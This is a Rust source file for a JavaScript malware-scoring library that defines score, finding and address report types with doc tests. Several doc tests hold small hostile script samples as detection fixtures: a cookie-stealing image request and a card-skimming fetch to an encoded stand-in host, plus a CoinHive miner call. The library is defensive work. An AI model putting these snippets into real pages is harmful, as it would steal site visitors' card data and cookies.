//! The scorer's report on a script.

use std::borrow::Cow;
use std::collections::BTreeSet;
use std::fmt;
use std::ops::Range;

use crate::{Class, ClassSet, Score, ScriptDigests};

/// The scores of a script, 1 (definitely malicious) to 99 (definitely not) each.
///
/// ```
/// use jsintegrity::{Class, Score, Scores};
///
/// let [low, high] = [Score::new(4)?, Score::new(97)?];
/// let scores = Scores::new(low, [low, high, high]);
/// assert_eq!((scores.js_integrity_score, scores.magecart_score), (low, low));
/// assert_eq!(scores.most_likely_class(), Class::Magecart);
/// assert_eq!(scores.class_at(Score::DEFAULT_THRESHOLD), Class::Magecart);
/// // A stricter threshold calls the same script benign.
/// assert_eq!(scores.class_at(low), Class::Benign);
/// # Ok::<(), jsintegrity::Error>(())
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[non_exhaustive]
pub struct Scores {
    /// Overall, from the three malicious classes together.
    pub js_integrity_score: Score,
    /// Magecart: payment or login data is skimmed.
    pub magecart_score: Score,
    /// Crypto mining in the visitor's browser.
    pub cryptomining_score: Score,
    /// Other malicious behaviour.
    pub malware_score: Score,
}

impl Scores {
    /// The scores of a script: overall, and by class in the order of [`Class::MALICIOUS`].
    #[must_use]
    pub fn new(
        js_integrity_score: Score,
        [magecart_score, cryptomining_score, malware_score]: [Score; 3],
    ) -> Self {
        Self { js_integrity_score, magecart_score, cryptomining_score, malware_score }
    }

    /// The scores, none above the ceiling of its class in the order of [`Class::MALICIOUS`].
    #[cfg(feature = "scorer")]
    pub(crate) fn below(self, ceilings: [Score; 3]) -> Self {
        let [magecart, cryptomining, malware] = ceilings;
        Self {
            js_integrity_score: ceilings.into_iter().fold(self.js_integrity_score, Score::min),
            magecart_score: self.magecart_score.min(magecart),
            cryptomining_score: self.cryptomining_score.min(cryptomining),
            malware_score: self.malware_score.min(malware),
        }
    }

    /// The malicious class with the lowest score; of equal ones the first in [`Class::MALICIOUS`].
    #[must_use]
    pub fn most_likely_class(&self) -> Class {
        let by_class = [self.magecart_score, self.cryptomining_score, self.malware_score];
        let lowest = by_class.iter().enumerate().min_by_key(|(_, score)| **score);
        lowest.map_or(Class::Malware, |(at, _)| Class::MALICIOUS[at])
    }

    /// The class at a threshold: [`Class::Benign`] unless the overall score is strictly below it.
    #[must_use]
    pub fn class_at(&self, threshold: Score) -> Class {
        if self.js_integrity_score.is_malicious_at(threshold) {
            self.most_likely_class()
        } else {
            Class::Benign
        }
    }
}

/// How much of a script the parser understood.
///
/// ```
/// # #[cfg(feature = "bundled-model")] {
/// use jsintegrity::{ParseStatus, Scorer};
///
/// let scorer = Scorer::bundled()?;
/// assert_eq!(scorer.score(b"let a = 1;")?.parse, ParseStatus::Full);
/// let broken = scorer.score(b"}} let a = (")?;
/// assert_ne!(broken.parse, ParseStatus::Full);
/// assert_eq!(ParseStatus::Lexical.name(), "lexical");
/// # }
/// # Ok::<(), jsintegrity::Error>(())
/// ```
#[allow(clippy::exhaustive_enums, reason = "the three values are the contract of the command")]
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum ParseStatus {
    /// All of it has a syntax tree.
    Full,
    /// A part has a syntax tree; the rest was scored by its tokens.
    Partial,
    /// There is no syntax tree: the script was scored by its tokens alone.
    Lexical,
}

impl ParseStatus {
    /// The name used in JSON.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::Full => "full",
            Self::Partial => "partial",
            Self::Lexical => "lexical",
        }
    }
}

impl fmt::Display for ParseStatus {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// A limit whose reaching left a part of a script unread.
///
/// ```
/// # #[cfg(feature = "bundled-model")] {
/// use jsintegrity::{Limit, Scorer};
///
/// // A kilobyte that would become a megabyte.
/// let long = "a".repeat(1 << 10);
/// let report = Scorer::bundled()?.score(format!("x='{long}'.replace(/a/g,'{long}')").as_bytes())?;
/// assert_eq!(report.limits, [Limit::Decoding]);
/// assert_eq!(report.limits[0].name(), "decoding");
/// # }
/// # Ok::<(), jsintegrity::Error>(())
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "lowercase")]
#[non_exhaustive]
pub enum Limit {
    /// The script has more bytes than are looked at, 1 GiB unless [set](crate::Scorer::with_limits); what follows was not looked at.
    Bytes,
    /// Decoding its strings would have added more than three times the script's bytes and 64 KiB, or than is
    /// [set](crate::Scorer::with_limits); some stayed encoded.
    Decoding,
    /// The script and the code in its strings have more tokens than [may be](crate::Scorer::with_limits); what follows was not looked
    /// at.
    Tokens,
}

impl Limit {
    /// The name used in JSON.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::Bytes => "bytes",
            Self::Decoding => "decoding",
            Self::Tokens => "tokens",
        }
    }
}

/// How much a finding weighs for a person who reads it.
///
/// ```
/// use jsintegrity::Severity;
///
/// assert!(Severity::Low < Severity::Medium && Severity::Medium < Severity::High);
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "lowercase")]
#[non_exhaustive]
pub enum Severity {
    /// Common in legitimate scripts as well; explains, does not accuse.
    Low,
    /// Unusual in legitimate scripts.
    Medium,
    /// Seldom seen outside malicious scripts.
    High,
}

/// A piece of evidence in a script.
///
/// ```
/// # #[cfg(feature = "bundled-model")] {
/// use jsintegrity::{Class, Finding, Scorer, Severity};
///
/// let report = Scorer::bundled()?.score(b"let a = 1;\nnew Image().src = '//c.example/?' + document.cookie;")?;
/// let found: &Finding = report.findings.iter().find(|found| found.signal == "cookies-sent").expect("a finding");
/// assert_eq!((found.line, found.severity), (2, Severity::Medium));
/// assert!(found.classes.contains(Class::Malware));
/// // To show to a person, both.
/// assert!(found.snippet.contains("document.cookie"));
/// assert_eq!(found.description, "The script sends this page's cookies out in a URL.");
/// # }
/// # Ok::<(), jsintegrity::Error>(())
/// ```
///
/// A scorer of your own makes its own:
///
/// ```
/// use jsintegrity::{Class, ClassSet, Finding, Severity};
///
/// let source = "let a;\nsend(form.card)";
/// let mut finding = Finding::new("form-sent", "Form fields are sent away.", Severity::High);
/// finding.span = 7..22;
/// (finding.line, finding.column) = (2, 1);
/// finding.snippet = source[finding.span.clone()].to_owned();
/// finding.classes = ClassSet::of(Class::Magecart);
/// assert_eq!(finding.snippet, "send(form.card)");
/// ```
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[non_exhaustive]
pub struct Finding {
    /// The signal's stable id, such as `cookies-sent`, or that of a signature behind [`SIGNATURE_PREFIX`].
    pub signal: Cow<'static, str>,
    /// One sentence about the signal for a site owner.
    pub description: Cow<'static, str>,
    /// Byte offsets in the script's text, from 0; the end does not belong to it. The text is the decoded script in UTF-8,
    /// without its byte order mark. For UTF-8 input without a mark, the offsets are those of the input bytes.
    pub span: Range<usize>,
    /// Line of the span's start, from 1.
    pub line: u32,
    /// Column of the span's start in characters, from 1.
    pub column: u32,
    /// The code there: at most 120 characters, control characters escaped.
    pub snippet: String,
    /// How much it weighs.
    pub severity: Severity,
    /// The classes that it supports.
    pub classes: ClassSet,
}

/// The prefix of a signature's signal; the signature's id follows.
pub const SIGNATURE_PREFIX: &str = "signature:";

impl Finding {
    /// A finding at the start of the script, without a snippet; the fields are public for the rest.
    #[must_use]
    pub fn new(
        signal: impl Into<Cow<'static, str>>,
        description: impl Into<Cow<'static, str>>,
        severity: Severity,
    ) -> Self {
        Self {
            signal: signal.into(),
            description: description.into(),
            span: 0..0,
            line: 1,
            column: 1,
            snippet: String::new(),
            severity,
            classes: ClassSet::default(),
        }
    }

    /// The id of the signature that this finding is of; `None` for a finding by a signal.
    ///
    /// ```
    /// # #[cfg(feature = "bundled-model")] {
    /// let report = jsintegrity::Scorer::bundled()?.score(b"new CoinHive.Anonymous('KEY').start()")?;
    /// assert!(report.findings.iter().any(|found| found.signature().is_some()));
    /// # }
    /// # Ok::<(), jsintegrity::Error>(())
    /// ```
    #[must_use]
    pub fn signature(&self) -> Option<&str> {
        self.signal.strip_prefix(SIGNATURE_PREFIX)
    }
}

/// What code does with an address.
///
/// ```
/// use jsintegrity::Usage;
///
/// assert_eq!([Usage::Loads, Usage::Navigates, Usage::Sends].map(Usage::name), ["loads", "navigates", "sends"]);
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "lowercase")]
#[non_exhaustive]
pub enum Usage {
    /// It loads a script, an image, a frame or a worker from there.
    Loads,
    /// It takes the visitor there.
    Navigates,
    /// It sends a request, a form or messages there.
    Sends,
}

impl Usage {
    /// The name used in JSON.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::Loads => "loads",
            Self::Navigates => "navigates",
            Self::Sends => "sends",
        }
    }
}

/// An address that the code loads, sends to or navigates to.
///
/// ```
/// # #[cfg(feature = "bundled-model")] {
/// use jsintegrity::{Scorer, Usage};
///
/// let script = "
/// var at = atob('Ly9jLmV4YW1wbGUvYS5qcw=='), named = 'https://named.example/';
/// var s = document.createElement('script');
/// s.src = at;";
/// let report = Scorer::bundled()?.score(script.as_bytes())?;
/// let used: Vec<_> = report.uses.iter().map(|used| (used.usage, &*used.address, used.line)).collect();
/// assert_eq!(used, [(Usage::Loads, "//c.example/a.js", 4)]);
/// # }
/// # Ok::<(), jsintegrity::Error>(())
/// ```
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[non_exhaustive]
pub struct UsedAddress {
    /// The address, as far as the script spells it out; parts added at run time are unknown.
    pub address: String,
    /// How the code uses it.
    pub usage: Usage,
    /// The word that does it, such as `src`, `fetch` or `write`.
    pub by: String,
    /// Where that is done, in byte offsets as in a [`Finding`].
    #[serde(default)]
    pub span: Range<usize>,
    /// Line of the span's start, from 1.
    pub line: u32,
    /// Column of the span's start in characters, from 1.
    pub column: u32,
}

impl UsedAddress {
    /// A use at the start of the script; the fields are public for the rest.
    ///
    /// ```
    /// use jsintegrity::{Usage, UsedAddress};
    ///
    /// let mut used = UsedAddress::new("https://cdn.example/a.js", Usage::Loads, "src");
    /// used.line = 3;
    /// assert_eq!(used.to_string(), "line 3: src loads https://cdn.example/a.js");
    /// ```
    #[must_use]
    pub fn new(address: impl Into<String>, usage: Usage, by: impl Into<String>) -> Self {
        Self { address: address.into(), usage, by: by.into(), span: 0..0, line: 1, column: 1 }
    }
}

impl fmt::Display for UsedAddress {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let does = match self.usage {
            Usage::Loads => "loads",
            Usage::Navigates => "navigates to",
            Usage::Sends => "sends to",
        };
        write!(f, "line {}: {} {does} {}", self.line, self.by, self.address)
    }
}

/// The answer for one script.
///
/// Same bytes and same [`model`](Self::model) give the same report.
///
/// ```
/// # #[cfg(feature = "bundled-model")] {
/// use jsintegrity::{Class, ParseStatus, Score, ScriptReport, Scorer, Severity};
///
/// // What is typed into the card field goes to another host; the address is encoded.
/// let script = "
/// document.querySelector('#pay').addEventListener('submit', function () {
///   var card = document.querySelector('input[name=cc_number]').value;
///   fetch(atob('aHR0cHM6Ly9jLmV4YW1wbGUvZw=='), { method: 'POST', body: card });
/// });";
/// let scorer = Scorer::bundled()?;
/// let report: ScriptReport = scorer.score(script.as_bytes())?;
///
/// // The scores, lowest for what it is.
/// assert_eq!(report.scores.class_at(Score::DEFAULT_THRESHOLD), Class::Magecart);
/// assert!(report.scores.magecart_score < report.scores.cryptomining_score);
/// assert!(report.raw > 9f64.ln());
///
/// // The evidence, most severe first, with its place in the code.
/// let found = &report.findings[0];
/// assert_eq!((&*found.signal, found.severity), ("card-data-sent-abroad", Severity::High));
/// assert!(found.line > 1 && script[found.span.start..found.span.end].contains("fetch"));
/// assert!(report.findings.is_sorted_by_key(|found| std::cmp::Reverse(found.severity)));
///
/// // Where it may connect to, for look-ups in feeds.
/// assert_eq!(report.urls, ["https://c.example/g"]);
/// assert!(report.hosts().iter().eq(["c.example"]));
///
/// // How far all this can be relied on, and what it was made from.
/// assert_eq!((report.parse, report.limits.len()), (ParseStatus::Full, 0));
/// assert_eq!(report.model, scorer.model_id());
/// assert!(report.digests.sri.starts_with("sha256-"));
/// # }
/// # Ok::<(), jsintegrity::Error>(())
/// ```
#[derive(Clone, Debug, PartialEq, serde::Serialize)]
#[non_exhaustive]
pub struct ScriptReport {
    /// The four scores.
    #[serde(flatten)]
    pub scores: Scores,
    /// The log odds behind the overall score, for those who need more than 99 steps: the higher, the more malicious. The score is
    /// `100 / (1 + e^raw)`, rounded down and from 1 to 99, so that `ln(9)` is the threshold. From -50 to 50.
    pub raw: f64,
    /// How much of the script was parsed.
    pub parse: ParseStatus,
    /// Limits that were reached; empty for nearly every script.
    pub limits: Vec<Limit>,
    /// Id of the model that scored: the first 16 hexadecimal digits of the SHA-256 of its bytes. If the limits differ from
    /// the defaults, a dash and 16 more digits follow.
    pub model: String,
    /// Epoch of the signatures that were asked: 16 hexadecimal digits of a SHA-256 of their content.
    pub signatures: String,
    /// Evidence, most severe first, then in the order of the script.
    pub findings: Vec<Finding>,
    /// Absolute `http(s)`, `ws(s)` and protocol-relative URLs found in the code and in decoded strings, in
    /// order of appearance, each once. Hints for feed checks, not proof of a connection.
    pub urls: Vec<String>,
    /// Addresses that reach a place where the code loads, sends to or navigates to them, in the order of these places.
    pub uses: Vec<UsedAddress>,
    /// Hashes of this version of the script.
    pub digests: ScriptDigests,
}

impl ScriptReport {
    /// The hosts of [`urls`](Self::urls), in small letters, without user information and port.
    #[must_use]
    pub fn hosts(&self) -> BTreeSet<String> {
        let host = |url: &String| {
            let authority = url.split_once("//")?.1.split(['/', '?', '#', '\\']).next()?;
            let host = authority.rsplit('@').next()?.split(':').next()?;
            (!host.is_empty()).then(|| host.to_lowercase())
        };
        self.urls.iter().filter_map(host).collect()
    }
}
